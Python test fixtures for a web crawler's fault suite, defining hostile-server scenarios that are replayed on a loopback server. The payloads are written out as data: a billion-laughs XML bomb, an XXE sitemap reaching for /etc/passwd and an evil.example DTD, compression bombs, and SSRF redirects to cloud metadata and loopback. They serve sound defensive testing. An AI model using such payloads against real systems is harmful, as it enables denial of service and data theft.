"""Fixture helpers for the fault suite (issue 6): a small replayed site, a profile for it, a crawl run in a
subprocess with its peak memory measured, and the check that says what survived, what was lost and what came
out twice.  Used by tests/test_faults_*.py, tests/test_kill*.py and bench/faults.py.

Everything talks only to a ReplayServer on 127.0.0.1 that the caller starts.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parent.parent
HOST = "www.faultsite.example"
DOMAIN = "faultsite.example"
BASE = f"https://{HOST}"
INDEX = f"{BASE}/index.html"
VICTIM = f"{BASE}/articles/victim.html"
PROFILE = "faultsite"

# Settings every fault crawl uses: no politeness delay against our own loopback server, short timeouts, one
# extraction process (the machine has two cores and the server shares them).
FAST_SETTINGS: dict[str, str] = {
    "DOWNLOAD_DELAY": "0",
    "AUTOTHROTTLE_ENABLED": "False",
    "DOWNLOAD_TIMEOUT": "5",
    "HEALTHDEX_EXTRACT_WORKERS": "0",
}

_WORDS = (
    "influenza vaccine fever cough asthma diabetes heart blood pressure kidney liver sleep exercise diet protein "
    "sugar salt fiber vitamin calcium iron bone joint muscle nerve brain memory stress anxiety depression skin "
    "rash allergy pollen dust infection bacteria virus antibiotic dose tablet symptom doctor nurse clinic "
    "hospital surgery recovery pain headache migraine stomach bowel lung breath oxygen smoking alcohol weight "
    "pregnancy infant child adult elderly screening cancer tumor therapy trial study risk benefit"
).split()


def _paragraph(rng, n_words: int) -> str:
    words = [rng.choice(_WORDS) for _ in range(n_words)]
    return " ".join(words).capitalize() + "."


def article_html(title: str, seed: int, links: list[str] = ()) -> bytes:
    """A plausible health article page (header, nav, article with five paragraphs, footer); the text is drawn
    from ``seed`` so different seeds are not near-duplicates of each other."""
    import random

    rng = random.Random(seed)
    paras = "\n".join(f"<p>{_paragraph(rng, 40 + 5 * k)}</p>" for k in range(5))
    nav = "".join(f'<li><a href="{href}">{href.rsplit("/", 1)[-1]}</a></li>' for href in links)
    return (
        "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">"
        f"<title>{title} | Fault Site</title></head><body>"
        f"<header><nav><ul><li><a href=\"/index.html\">Home</a></li>{nav}</ul></nav></header>"
        f"<main><article><h1>{title}</h1><p class=\"byline\">By Dr. Test Author</p>\n{paras}\n</article></main>"
        "<footer><p>Copyright Fault Site. All rights reserved.</p></footer></body></html>\n"
    ).encode()


@dataclass
class Site:
    folder: Path
    good: list[str]            # article URLs that must always come out exactly once
    extra: list[str]           # other article URLs in the site (the victim and its helpers)
    index: str = INDEX


def build_site(root: Path, n_good: int = 4, extra_pages: Mapping[str, bytes] | None = None,
               link_extra: bool = True, files: Mapping[str, bytes] | None = None) -> Site:
    """A replay folder for HOST: an index linking to ``n_good`` good articles and to ``extra_pages``
    (URL -> body; the victim and friends).  ``files`` adds non-article URLs (robots.txt, sitemaps)."""
    folder = root / "site"
    folder.mkdir(parents=True, exist_ok=True)
    good = [f"{BASE}/articles/good-{i}.html" for i in range(n_good)]
    extra_pages = dict(extra_pages or {})
    links = good + (list(extra_pages) if link_extra else [])
    pages: dict[str, bytes] = {INDEX: article_html("Fault Site home", 99, links)}
    for i, url in enumerate(good):
        pages[url] = article_html(f"Good article {i}", i)
    pages.update(extra_pages)
    pages.update(files or {})
    rows = ["file\toriginal_url"]
    for n, (url, body) in enumerate(pages.items()):
        name = f"p{n:04d}.html"
        (folder / name).write_bytes(body)
        rows.append(f"{name}\t{url}")
    (folder / "MANIFEST.tsv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    return Site(folder=folder, good=good, extra=list(extra_pages))


def write_profile(folder: Path, name: str = PROFILE, *, sitemaps: list[str] = (), start_urls: list[str] = (INDEX,),
                  extra: str = "") -> Path:
    """A site profile for HOST in ``folder`` (to be put on HEALTHDEX_PROFILES_PATH)."""
    folder.mkdir(parents=True, exist_ok=True)
    text = (
        f'site = "{DOMAIN}"\nallowed_domains = ["{DOMAIN}"]\n'
        f"start_urls = {json.dumps(list(start_urls))}\n"
        + (f"sitemaps = {json.dumps(list(sitemaps))}\n" if sitemaps else "")
        + "article_urls = ['/articles/']\n" + extra
    )
    path = folder / f"{name}.toml"
    path.write_text(text, encoding="utf-8")
    return path


# Runs the real ``healthdex`` CLI and, on the way out, writes the peak RSS of this process (VmHWM: ru_maxrss of an
# exec'd child starts at its parent's high-water mark) and of every child it reaped (extraction workers) to the
# file named by argv[1].
_RSS_WRAPPER = r"""
import atexit, json, resource, sys
out = sys.argv.pop(1)
def _write():
    hwm = 0
    with open("/proc/self/status") as status:
        for line in status:
            if line.startswith("VmHWM:"):
                hwm = int(line.split()[1])
    with open(out, "w") as fh:
        json.dump({"self_kb": hwm,
                   "children_kb": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}, fh)
atexit.register(_write)
sys.argv[0] = "healthdex"
from healthdex.cli import main
main()
"""


@dataclass
class CrawlRun:
    returncode: int
    stdout: str
    stderr: str
    wall_s: float
    peak_rss_mb: float
    out: Path

    @property
    def report(self) -> dict[str, Any]:
        path = self.out / "crawl-report.json"
        return json.loads(path.read_text(encoding="utf-8")) if path.is_file() else {}


def healthdex_env(profiles_dir: Path | None = None, extra: Mapping[str, str] | None = None) -> dict[str, str]:
    env = {**os.environ, "PYTHONPATH": str(REPO) + os.pathsep + os.environ.get("PYTHONPATH", "")}
    if profiles_dir is not None:
        env["HEALTHDEX_PROFILES_PATH"] = str(profiles_dir)
    env.update(extra or {})
    return env


def crawl_args(out: Path, proxy_url: str, profiles: list[str] = (PROFILE,),
               settings: Mapping[str, str] | None = None) -> list[str]:
    args = ["crawl", *profiles, "--out", str(out), "--proxy", proxy_url]
    for key, value in {**FAST_SETTINGS, **(settings or {})}.items():
        args += ["-s", f"{key}={value}"]
    return args


def run_crawl(out: Path, proxy_url: str, profiles_dir: Path, *, settings: Mapping[str, str] | None = None,
              profiles: list[str] = (PROFILE,), timeout: float = 120) -> CrawlRun:
    """``healthdex crawl`` in a subprocess through ``proxy_url``; measures wall time and peak RSS."""
    with tempfile.NamedTemporaryFile("r", suffix=".json", delete=False) as rss_file:
        rss_path = rss_file.name
    started = time.monotonic()
    try:
        proc = subprocess.run(
            [sys.executable, "-c", _RSS_WRAPPER, rss_path, *crawl_args(out, proxy_url, profiles, settings)],
            cwd=REPO, capture_output=True, text=True, timeout=timeout, env=healthdex_env(profiles_dir),
        )
        wall = time.monotonic() - started
        try:
            rss = json.loads(Path(rss_path).read_text() or "{}")
        except ValueError:
            rss = {}
    finally:
        Path(rss_path).unlink(missing_ok=True)
    peak_kb = max(rss.get("self_kb", 0), rss.get("children_kb", 0))
    return CrawlRun(proc.returncode, proc.stdout, proc.stderr, wall, peak_kb / 1024, out)


# --- reading the outputs -------------------------------------------------------------------------------------

def read_articles(out: Path) -> list[dict]:
    """Every line of articles.jsonl parsed (a torn or invalid line raises)."""
    path = out / "articles.jsonl"
    if not path.is_file():
        return []
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]


def article_urls(articles: list[dict]) -> list[str]:
    return [a.get("url") or a.get("final_url") for a in articles if "error" not in a and not a.get("gone")]


def read_warc(out: Path) -> list[tuple[str, str]]:
    """(record type, target URI) of every record; reads every record to its end (raw, not decompressed: a
    stored decompression bomb must not be inflated here) so a torn WARC raises."""
    from warcio.archiveiterator import ArchiveIterator

    records = []
    path = out / "pages.warc.gz"
    if not path.is_file():
        return records
    with path.open("rb") as handle:
        for record in ArchiveIterator(handle):
            while record.raw_stream.read(1 << 20):
                pass
            records.append((record.rec_type, record.rec_headers.get_header("WARC-Target-URI") or ""))
    return records


@dataclass
class Outcome:
    """What one trial came to: the pages expected, missing, duplicated, and every problem found."""

    expected: int = 0
    lost: list[str] = field(default_factory=list)
    duplicated: list[str] = field(default_factory=list)
    problems: list[str] = field(default_factory=list)

    @property
    def survived(self) -> bool:
        return not self.lost and not self.duplicated and not self.problems

    def explain(self) -> str:
        return f"lost={self.lost} duplicated={self.duplicated} problems={self.problems}"


def check_outputs(out: Path, expected: list[str], *, forbidden: list[str] = ()) -> Outcome:
    """Every URL in ``expected`` is an article exactly once; none of ``forbidden`` is; WARC and JSONL parse."""
    outcome = Outcome(expected=len(expected))
    try:
        articles = read_articles(out)
    except ValueError as exc:
        outcome.problems.append(f"articles.jsonl does not parse: {exc}")
        articles = []
    try:
        read_warc(out)
    except Exception as exc:  # noqa: BLE001 - any failure to read the WARC is the finding
        outcome.problems.append(f"pages.warc.gz does not parse: {exc.__class__.__name__}: {exc}")
    counts = Counter(article_urls(articles))
    outcome.lost = [u for u in expected if counts[u] == 0]
    outcome.duplicated = [u for u, n in counts.items() if n > 1]
    for url in forbidden:
        if counts[url]:
            outcome.problems.append(f"{url} should not be an article")
    return outcome


def off_scope_requests(request_log, allowed_host: str = HOST) -> list[str]:
    """URLs the crawler asked the proxy for that are not on ``allowed_host`` (CONNECT lines name host:port)."""
    from urllib.parse import urlsplit

    bad = []
    for entry in request_log.snapshot() if hasattr(request_log, "snapshot") else list(request_log):
        url = entry.url
        host = urlsplit(url).hostname if "://" in url else url.split(":")[0]
        if (host or "").lower() != allowed_host:
            bad.append(f"{entry.method} {url}")
    return bad


# --- hostile-server scenarios (data; run by tests/test_faults_http.py and bench/faults.py) -------------------

# Caps every fault crawl must stay inside (the crawl process and its children).  DOWNLOAD_MAXSIZE is 10 MB and
# bodies are held a few times over (raw, decoded, WARC, parse tree), so a crawl that stays under 400 MB has not
# buffered a 200 MB or 1 GB body.
MAX_RSS_MB = 400


@dataclass
class Scenario:
    name: str
    fault_class: str
    rules: dict[str, dict]                    # URL pattern -> FaultRule fields
    victim: str | None = VICTIM               # the page the fault is about (None: no single page)
    expect: str = "failed"                    # "article": the victim must come out; "failed": in failed_pages;
    failed_kind: str | None = None            # "any": either, the crawl must merely survive
    pages: dict[str, bytes] | None = None     # extra pages (default: the victim as a normal article)
    files: dict[str, bytes] | None = None     # extra non-article URLs (robots.txt, sitemaps)
    settings: dict[str, str] = field(default_factory=dict)
    sitemaps: list[str] = field(default_factory=list)
    max_wall_s: float = 45.0                  # generous: the machine is shared; a hang is minutes
    max_rss_mb: float = MAX_RSS_MB
    check: Any = None                         # extra check(run, request_log) -> list of problems
    slow: bool = False                        # only in the slow suite (pytest -m slow)


def _min_gap(log, url: str) -> float:
    times = [e.time for e in log if e.url == url]
    return min((b - a for a, b in zip(times, times[1:], strict=False)), default=0.0)


def _retry_gaps(at_least: float):
    def check(run: CrawlRun, log) -> list[str]:
        gap = _min_gap(log, VICTIM)
        n = sum(1 for e in log if e.url == VICTIM)
        if n < 2:
            return [f"victim requested {n} time(s); expected a retry"]
        return [] if gap >= at_least - 0.05 else [f"retried after {gap:.2f}s, expected >= {at_least}s"]
    return check


def _not_requested(*needles: str):
    def check(run: CrawlRun, log) -> list[str]:
        return [f"requested {e.url}" for e in log if any(n in e.url for n in needles)]
    return check


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
    + ']>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n'
    f"<url><loc>{BASE}/articles/good-0.html</loc></url>\n<url><loc>&lol9;</loc></url>\n</urlset>\n"
).encode()
XXE_SITEMAP = (
    '<?xml version="1.0"?>\n<!DOCTYPE urlset [\n <!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
    ' <!ENTITY remote SYSTEM "http://evil.example/xxe.dtd">\n]>\n'
    '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n'
    f"<url><loc>{BASE}/articles/&xxe;</loc></url>\n<url><loc>&remote;</loc></url>\n"
    f"<url><loc>{BASE}/articles/good-1.html</loc></url>\n</urlset>\n"
).encode()
CHAIN = [f"{BASE}/articles/chain-{i}.html" for i in range(15)]
MIXED_CHARSET = (
    '<!DOCTYPE html><html><head><meta charset="iso-8859-1"><meta http-equiv="Content-Type" '
    'content="text/html; charset=shift_jis"><title>Mixed charsets</title></head><body><article>'
    "<h1>Mixed charsets</h1>"
    + "".join(f"<p>{_paragraph(__import__('random').Random(k), 40)} caf\u00e9 na\u00efve \u2014 \u00fcber {k}</p>"
              for k in range(5))
    + "</article></body></html>"
).encode("utf-8").replace(b"na\xc3\xafve", b"na\xefve").replace(b"\xe2\x80\x94", b"\x97\xff\xfe")
NUL_PAGE = article_html("Nul bytes", 2003).replace(b"<p>", b"<p>\x00\x00", 3).replace(b"</h1>", b"\x00</h1>\x00")

SCENARIOS: list[Scenario] = [
    Scenario("http_500_persistent", "5xx / 429", {VICTIM: {"status": 500}}, failed_kind="http_500",
             settings={"HEALTHDEX_RETRY_BACKOFF_BASE": "0.3"}),
    Scenario("http_502_then_ok", "5xx / 429", {VICTIM: {"status": 502, "times": 2}}, expect="article",
             settings={"HEALTHDEX_RETRY_BACKOFF_BASE": "0.5"}, check=_retry_gaps(0.5)),
    Scenario("http_503_retry_after", "5xx / 429", {VICTIM: {"status": 503, "retry_after": 2, "times": 1}},
             expect="article", check=_retry_gaps(2.0)),
    Scenario("http_503_retry_after_huge", "5xx / 429", {VICTIM: {"status": 503, "retry_after": 86400}},
             failed_kind="http_503", settings={"HEALTHDEX_RETRY_AFTER_MAX": "1"}, check=_retry_gaps(1.0)),
    Scenario("http_429_retry_after", "5xx / 429", {VICTIM: {"status": 429, "retry_after": 1, "times": 2}},
             expect="article", check=_retry_gaps(1.0)),
    Scenario("timeout", "timeouts / slowloris", {VICTIM: {"delay": 30}}, failed_kind="timeout",
             settings={"DOWNLOAD_TIMEOUT": "2", "RETRY_TIMES": "1", "HEALTHDEX_RETRY_BACKOFF_BASE": "0.2"}),
    Scenario("slowloris_trickle", "timeouts / slowloris", {VICTIM: {"trickle_bps": 1}}, failed_kind="timeout",
             settings={"DOWNLOAD_TIMEOUT": "2", "RETRY_TIMES": "1", "HEALTHDEX_RETRY_BACKOFF_BASE": "0.2"}),
    Scenario("reset_mid_body", "connection resets", {VICTIM: {"reset_after": 300}}, failed_kind="connection",
             settings={"HEALTHDEX_RETRY_BACKOFF_BASE": "0.2"}),
    Scenario("reset_then_ok", "connection resets", {VICTIM: {"reset_after": 300, "times": 1}}, expect="article",
             settings={"HEALTHDEX_RETRY_BACKOFF_BASE": "0.2"}),
    Scenario("abort_before_status", "connection resets", {VICTIM: {"abort": True}}, failed_kind="connection",
             settings={"HEALTHDEX_RETRY_BACKOFF_BASE": "0.2"}),
    Scenario("truncated_gzip", "compression", {VICTIM: {"truncate_gzip": True}}, expect="any"),
    Scenario("gzip_bomb", "compression", {VICTIM: {"bomb": 1_000_000_000}}, failed_kind="maxsize"),
    Scenario("deflate_bomb", "compression", {VICTIM: {"bomb": 200_000_000, "bomb_encoding": "deflate"}},
             failed_kind="maxsize"),
    Scenario("brotli_bomb", "compression", {VICTIM: {"bomb": 200_000_000, "bomb_encoding": "br"}},
             failed_kind="maxsize"),
    Scenario("response_200mb", "huge bodies", {VICTIM: {"generate": "html", "size": 200 * 1024 * 1024}},
             failed_kind="maxsize"),
    Scenario("response_200mb_no_length", "huge bodies",
             {VICTIM: {"generate": "html", "size": 200 * 1024 * 1024, "no_content_length": True}},
             failed_kind="maxsize"),
    Scenario("single_line_50mb", "huge bodies", {VICTIM: {"generate": "line", "size": 50 * 1024 * 1024}},
             failed_kind="maxsize"),
    # Under the 10 MB cap the stripper's cost grows with the page, ~2 s and ~40 MB per MB of markup here (8 MB of
    # one line, 170k elements: ~15 s and ~350 MB alone, ~30 s on a loaded machine); the fast suite uses 2 MB.
    Scenario("single_line_2mb", "huge bodies", {VICTIM: {"generate": "line", "size": 2 * 1024 * 1024}},
             expect="any", max_wall_s=60),
    Scenario("single_line_8mb", "huge bodies", {VICTIM: {"generate": "line", "size": 8 * 1024 * 1024}},
             expect="any", max_wall_s=90, max_rss_mb=800, slow=True),
    Scenario("nested_100k", "huge bodies", {VICTIM: {"generate": "nested", "size": 100_000}}, expect="any"),
    Scenario("no_content_length", "no Content-Length", {VICTIM: {"no_content_length": True}}, expect="article"),
    Scenario("redirect_loop", "redirects", {VICTIM: {"redirect_to": f"{BASE}/articles/loop-b.html"},
                                            f"{BASE}/articles/loop-b.html": {"redirect_to": VICTIM}},
             failed_kind="redirect"),
    Scenario("redirect_chain_15", "redirects",
             {VICTIM: {"redirect_to": CHAIN[0]},
              **{CHAIN[i]: {"redirect_to": CHAIN[i + 1]} for i in range(len(CHAIN) - 1)}},
             failed_kind="redirect_max"),
    Scenario("redirect_other_host", "redirects", {VICTIM: {"redirect_to": "https://evil.example/steal.html"}},
             failed_kind="redirect_offsite", check=_not_requested("evil.example")),
    Scenario("redirect_file", "redirects", {VICTIM: {"redirect_to": "file:///etc/passwd"}},
             failed_kind="redirect_scheme", check=_not_requested("passwd")),
    Scenario("redirect_ftp", "redirects", {VICTIM: {"redirect_to": "ftp://ftp.faultsite.example/x.html"}},
             failed_kind="redirect_scheme", check=_not_requested("ftp")),
    Scenario("redirect_loopback", "redirects", {VICTIM: {"redirect_to": "http://127.0.0.1:9/admin"}},
             failed_kind="redirect_private", check=_not_requested("127.0.0.1", "/admin")),
    Scenario("redirect_private", "redirects", {VICTIM: {"redirect_to": "http://169.254.169.254/latest/meta-data/"}},
             failed_kind="redirect_private", check=_not_requested("169.254", "meta-data")),
    Scenario("binary_as_html", "Content-Type lies",
             {VICTIM: {"generate": "binary", "size": 300_000, "content_type": "text/html"}}, expect="any"),
    Scenario("html_as_octet_stream", "Content-Type lies", {VICTIM: {"content_type": "application/octet-stream"}},
             failed_kind="content_type"),
    Scenario("invalid_charset", "charsets / NUL", {VICTIM: {"content_type": "text/html; charset=x-no-such-charset"}},
             expect="article"),
    Scenario("mixed_charsets", "charsets / NUL", {}, pages={VICTIM: MIXED_CHARSET}, expect="article"),
    Scenario("nul_bytes", "charsets / NUL", {}, pages={VICTIM: NUL_PAGE}, expect="article"),
    Scenario("nul_body", "charsets / NUL", {VICTIM: {"generate": "nul", "size": 2_000_000}}, expect="any"),
    Scenario("sitemap_billion_laughs", "sitemap XML attacks", {}, victim=None,
             files={f"{BASE}/sitemap-evil.xml": BILLION_LAUGHS}, sitemaps=[f"{BASE}/sitemap-evil.xml"]),
    Scenario("sitemap_xxe", "sitemap XML attacks", {}, victim=None,
             files={f"{BASE}/sitemap-evil.xml": XXE_SITEMAP}, sitemaps=[f"{BASE}/sitemap-evil.xml"],
             check=_not_requested("evil.example", "root:", "passwd")),
    Scenario("robots_huge", "robots.txt", {f"{BASE}/robots.txt": {"body": "User-agent: *\n"
                                                                            + "Disallow: /nothing-here/\n" * 400_000}},
             victim=None),
    Scenario("robots_malformed", "robots.txt", {f"{BASE}/robots.txt": {
        "body": "\x00\xff<html>User-agent *\nDisallow\n\n\nAllow: /(a+)+$\nCrawl-delay: -5e999\nSitemap: ::::\n"}},
        victim=None),
    Scenario("robots_binary", "robots.txt", {f"{BASE}/robots.txt": {"generate": "binary", "size": 500_000}},
             victim=None),
]
SCENARIOS_BY_NAME = {s.name: s for s in SCENARIOS}


@dataclass
class ScenarioResult:
    outcome: Outcome
    run: CrawlRun
    log: list


def run_scenario(scenario: Scenario, root: Path) -> ScenarioResult:
    """Build the site, start replay with the scenario's faults, crawl it, and judge the result."""
    from replay.faults import FaultRule
    from replay.server import ReplayServer

    pages = scenario.pages if scenario.pages is not None else (
        {scenario.victim: article_html("Victim article", 1007)} if scenario.victim else {})
    extra_pages = dict(pages)
    site = build_site(root, extra_pages={VICTIM: extra_pages.pop(VICTIM)} if VICTIM in extra_pages else {},
                      files={**extra_pages, **(scenario.files or {})})
    profiles_dir = root / "profiles"
    write_profile(profiles_dir, sitemaps=scenario.sitemaps)
    with ReplayServer(site.folder) as server:
        for pattern, rule in scenario.rules.items():
            server.faults[pattern] = FaultRule(**rule)
        run = run_crawl(root / "out", server.proxy_url, profiles_dir, settings=scenario.settings,
                        timeout=scenario.max_wall_s * 4)
        log = server.request_log.snapshot()
    expected = list(site.good) + ([VICTIM] if scenario.expect == "article" and scenario.victim else [])
    outcome = check_outputs(run.out, expected)
    problems = outcome.problems
    if run.returncode != 0:
        problems.append(f"crawl exited {run.returncode}: {run.stderr[-800:]}")
    if "Traceback" in run.stderr:
        problems.append("traceback in the crawl's stderr: " + run.stderr[run.stderr.index("Traceback"):][:1500])
    report = run.report
    if not report:
        problems.append("no crawl-report.json")
    failed = report.get("failed_pages") or {}
    if scenario.expect == "failed" and scenario.victim:
        reason = failed.get(scenario.victim)
        if reason is None:
            problems.append(f"victim not in the report's failed_pages ({sorted(failed)})")
        elif scenario.failed_kind and not reason.startswith(scenario.failed_kind):
            problems.append(f"victim failed as {reason!r}, expected {scenario.failed_kind}")
        if scenario.victim in article_urls(read_articles(run.out) if (run.out / "articles.jsonl").is_file() else []):
            problems.append("the failing victim came out as an article")
    for url in site.good:
        if url in failed:
            problems.append(f"good page {url} failed: {failed[url]}")
    problems += [f"off-scope request: {u}" for u in off_scope_requests(log)]
    if run.wall_s > scenario.max_wall_s:
        problems.append(f"crawl took {run.wall_s:.1f}s > {scenario.max_wall_s}s")
    if run.peak_rss_mb > scenario.max_rss_mb:
        problems.append(f"peak RSS {run.peak_rss_mb:.0f} MB > {scenario.max_rss_mb} MB")
    if scenario.check is not None:
        problems += scenario.check(run, log)
    return ScenarioResult(outcome, run, log)
